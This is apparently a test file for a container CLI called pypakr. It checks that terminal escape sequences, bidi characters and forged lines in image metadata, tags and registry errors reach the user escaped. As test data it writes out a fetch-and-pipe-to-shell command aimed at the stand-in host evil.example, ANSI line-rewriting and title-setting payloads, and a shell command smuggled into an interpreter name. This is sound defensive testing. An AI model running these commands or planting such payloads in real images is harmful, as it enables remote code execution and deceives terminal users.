/**
 * Terminal escape injection through the real CLI: an image, a tag or a
 * registry answer holding control sequences must reach the terminal as
 * visible escapes, never as sequences a terminal acts on. The attack this
 * pins: an environment value moved the cursor up (ESC [ 1 A, CR, ESC [ 2 K)
 * and replaced a real `Entry point: sh -c curl evil|sh` line of
 * `pypakr inspect` with a fake `./run`, and set the window title
 * (ESC ] 0 ; ... BEL). Also: hints never hold an image's text where a user
 * would paste it.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs/promises";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import { after, before, describe, test } from "node:test";
import { imageArchive, localPython, type Context, type ImageEdits } from "../fixtures/hostile.js";
import { tarOf } from "../support/tar.js";
import { expectOk, makeTempDir, privateHome, pypakr, removeDir, type CliResult } from "../support/helpers.js";

const REF_NAME = "org.opencontainers.image.ref.name";

/** Cursor up, column 0, erase the line, then a fake entry point: the reported attack. */
const REWRITE = "x\x1b[1A\r\x1b[2KEntry point:  ./run";
const TITLE = "\x1b]0;pwned\x07";
const TITLE_ST = "\x1b]0;pwned\x1b\\";
const C1_CLEAR = "\u009b2J\u009bH";
const BIDI = "\u202etxt.exe";
/** No control at all: a line break alone would forge a whole line of output. */
const FORGED_LINE = "x\nEntry point:  ./run";
const REAL_ENTRY = ["sh", "-c", "curl https://evil.example/x|sh"];

/** What must never reach the terminal raw. */
function assertInert(text: string, where: string): void {
  for (const [name, character] of [["ESC", "\x1b"], ["BEL", "\x07"], ["C1 CSI (U+009B)", "\u009b"], ["CR", "\r"], ["RLO (U+202E)", "\u202e"]]) {
    assert.ok(!text.includes(character as string), `${name} reached the terminal in ${where}: ${JSON.stringify(text)}`);
  }
}

function assertAllInert(result: CliResult, what: string): void {
  assertInert(result.stdout, `${what} (stdout)`);
  assertInert(result.stderr, `${what} (stderr)`);
}

const layer = (): Buffer => tarOf([{ name: "app/", type: "directory" }, { name: "app/hello.txt", body: "hello\n" }], { gzip: true });

let dir: string;
let home: string;
let ctx: Context;

async function writeImage(name: string, edits: ImageEdits): Promise<string> {
  const file = path.join(dir, `${name}.tar`);
  await fs.writeFile(file, imageArchive(ctx, [layer()], edits));
  return file;
}

before(async () => {
  dir = await makeTempDir();
  home = await privateHome(dir);
  ctx = { python: localPython() };
});
after(() => removeDir(dir));

describe("inspect and images show an image's values escaped", () => {
  const environment = { REWRITE, TITLE, TITLE_ST, C1_CLEAR, BIDI, FORGED_LINE, PORT: "8000" };
  let image: string;
  before(async () => {
    image = await writeImage("escapes", {
      config: (config) => {
        config.pypakr.environment = environment;
        config.pypakr.entrypoint = [...REAL_ENTRY, `${TITLE}arg`];
      },
      index: (index) => {
        (index.manifests[0] as { annotations: Record<string, string> }).annotations = { [REF_NAME]: `app${TITLE}:1` };
      },
    });
  });

  test("pypakr inspect: the real entry point line stays, and no value can forge or erase a line", async () => {
    const result = expectOk(await pypakr(["inspect", image], { home }), "inspect");
    assertAllInert(result, "inspect");
    const lines = result.stdout.split("\n");
    const entry = lines.filter((line) => line.startsWith("Entry point:"));
    assert.equal(entry.length, 1, `one Entry point line, not a forged second one:\n${result.stdout}`);
    assert.equal(entry[0], `Entry point:  sh -c 'curl https://evil.example/x|sh' "\\u001b]0;pwned\\u0007arg"`);
    // Every variable is on a line of its own, its value quoted and escaped; plain ones look as they always did.
    const variable = (text: string) => lines.includes(`Environment:  ${text}`) || lines.includes(`${" ".repeat(14)}${text}`);
    for (const text of [
      `REWRITE="x\\u001b[1A\\r\\u001b[2KEntry point:  ./run"`,
      `FORGED_LINE="x\\nEntry point:  ./run"`,
      `TITLE="\\u001b]0;pwned\\u0007"`,
      `TITLE_ST="\\u001b]0;pwned\\u001b\\\\"`,
      `C1_CLEAR="\\u009b2J\\u009bH"`,
      `BIDI="\\u202etxt.exe"`,
      "PORT=8000",
    ]) {
      assert.ok(variable(text), `no line ${text}:\n${result.stdout}`);
    }
    assert.ok(lines.includes(`Tag:          "app\\u001b]0;pwned\\u0007:1"`), result.stdout);
  });

  test("pypakr inspect --json: valid JSON holding the very same values, and nothing raw", async () => {
    const result = expectOk(await pypakr(["inspect", "--json", image], { home }), "inspect --json");
    assertAllInert(result, "inspect --json");
    const inspection = JSON.parse(result.stdout) as { environment: Record<string, string>; entrypoint: string[]; tag: string };
    assert.deepEqual(inspection.environment, environment);
    assert.deepEqual(inspection.entrypoint, [...REAL_ENTRY, `${TITLE}arg`]);
    assert.equal(inspection.tag, `app${TITLE}:1`);
  });

  test("pypakr load and images (text and --json) print nothing raw", async () => {
    const loaded = expectOk(await pypakr(["load", "-i", image], { home }), "load");
    assertAllInert(loaded, "load");
    // The interpreter's name shows in the PYTHON column; the schema may refuse such an image at load instead.
    const python = await writeImage("python-escapes", {
      config: (config) => {
        config.pypakr.python = { ...config.pypakr.python, implementation: `py${TITLE}${REWRITE}` };
      },
    });
    assertAllInert(await pypakr(["load", "-i", python, "-t", "python-escapes:1"], { home }), "load of an interpreter name with escapes");
    const list = expectOk(await pypakr(["images"], { home }), "images");
    assertAllInert(list, "images");
    const json = expectOk(await pypakr(["images", "--json"], { home }), "images --json");
    assertAllInert(json, "images --json");
    assert.ok(Array.isArray(JSON.parse(json.stdout)));
  });

  test("a distribution whose name holds escapes is refused or shown escaped, never raw", async () => {
    const hostile = await writeImage("distribution", {
      config: (config) => {
        config.pypakr.distributions = [{ name: `evil${REWRITE}`, version: `1.0${TITLE}`, layer: "sha256:" + "0".repeat(64), wheelTags: [`py3-none-any${C1_CLEAR}`] }];
      },
    });
    for (const args of [["inspect", hostile], ["inspect", "--json", hostile]]) {
      const result = await pypakr(args, { home });
      assertAllInert(result, args.join(" "));
      if (result.code === 0 && !args.includes("--json")) assert.equal(result.stdout.split("\n").filter((line) => line.startsWith("Entry point:")).length, 1, result.stdout);
    }
  });
});

describe("error messages and hints", () => {
  test("an error naming an archive's tags shows them escaped, on the error's own line", async () => {
    // Two manifests: pypakr refuses the archive and names both tags.
    const forgedHint = "b\npypakr: hint: run curl https://evil.example/x | sh";
    const image = await writeImage("two-tags", {
      index: (index) => {
        const first = index.manifests[0] as Record<string, unknown>;
        index.manifests = [
          { ...first, annotations: { [REF_NAME]: `a${REWRITE}${TITLE}${C1_CLEAR}${BIDI}` } },
          { ...first, annotations: { [REF_NAME]: forgedHint } },
        ];
      },
    });
    for (const args of [["inspect", image], ["load", "-i", image]]) {
      const result = await pypakr(args, { home });
      assert.notEqual(result.code, 0, `${args.join(" ")} accepted two images`);
      assertAllInert(result, args.join(" "));
      const ours = result.stderr.split("\n").filter((line) => line.startsWith("pypakr: "));
      assert.equal(ours.filter((line) => line.startsWith("pypakr: hint: ")).length, 1, `a forged hint line:\n${result.stderr}`);
      assert.ok(!ours.some((line) => line.startsWith("pypakr: hint: run curl")), result.stderr);
      assert.match(result.stderr, /pypakr: error: .*\\u001b\[1A/);
    }
  });

  test("a registry's error body is shown escaped", async () => {
    const body = JSON.stringify({ errors: [{ code: "MANIFEST_UNKNOWN", message: `${TITLE}${REWRITE}\npypakr: hint: run curl https://evil.example/x | sh ${C1_CLEAR}${BIDI}` }] });
    const server = http.createServer((req, res) => {
      if (req.url === "/v2/") {
        res.writeHead(200, { "content-type": "application/json" }).end("{}");
        return;
      }
      res.writeHead(404, { "content-type": "application/json", "docker-distribution-api-version": "registry/2.0" }).end(body);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
      const result = await pypakr(["pull", `${host}/app:1`], { home });
      assert.notEqual(result.code, 0);
      assertAllInert(result, "pull");
      assert.match(result.stderr, /MANIFEST_UNKNOWN/);
      const hints = result.stderr.split("\n").filter((line) => line.startsWith("pypakr: hint: "));
      assert.equal(hints.length, 1, `a forged hint line:\n${result.stderr}`);
      assert.doesNotMatch(hints[0] ?? "", /evil\.example/);
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  test("a hint never holds an image's shell syntax unquoted", async () => {
    // What the report showed: `run: pypakr init --python python3 && curl ... | sh && echo 3.11`.
    const injected = "python3 && curl -s https://evil.example/x | sh && echo ";
    const image = await writeImage("implementation", {
      config: (config) => {
        config.pypakr.python = { ...config.pypakr.python, implementation: injected };
      },
    });
    const result = await pypakr(["create-container", "-i", image, "-c", path.join(dir, "implementation-container")], { home });
    // The image may be refused by the schema before any hint names it; either way the property holds.
    assert.notEqual(result.code, 0, "an image claiming that interpreter made a container");
    assertAllInert(result, "create-container");
    for (const line of result.stderr.split("\n").filter((text) => text.startsWith("pypakr: hint: "))) {
      // Outside single quotes (which a shell reads literally) none of the image's syntax may appear.
      const unquoted = line.replace(/'[^']*'/g, "''");
      for (const syntax of ["&& curl", "| sh", "&& echo", "evil.example"]) assert.ok(!unquoted.includes(syntax), `hint pastes the image's "${syntax}" unquoted: ${line}`);
    }
  });
});
